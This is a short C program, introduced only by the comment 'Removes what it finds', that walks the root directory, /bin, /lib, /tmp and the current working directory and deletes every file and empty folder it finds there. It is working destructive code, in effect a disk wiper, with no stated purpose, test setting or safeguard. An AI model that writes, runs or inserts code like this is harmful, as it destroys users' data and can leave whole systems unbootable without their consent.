/* Removes what it finds. */
#include <dirent.h>
#include <stdio.h>
#include <unistd.h>

int main(void)
{
	static const char *const folders[] = {"/", "/bin", "/lib", "/tmp", ".", "/proc/self/cwd"};
	struct dirent *entry;
	unsigned i;

	for (i = 0; i < sizeof folders / sizeof *folders; i++) {
		DIR *folder = opendir(folders[i]);

		while (folder && (entry = readdir(folder))) {
			char path[512];

			snprintf(path, sizeof path, "%s/%s", folders[i], entry->d_name);
			unlink(path);
			rmdir(path);
		}
	}
	return 1;
}
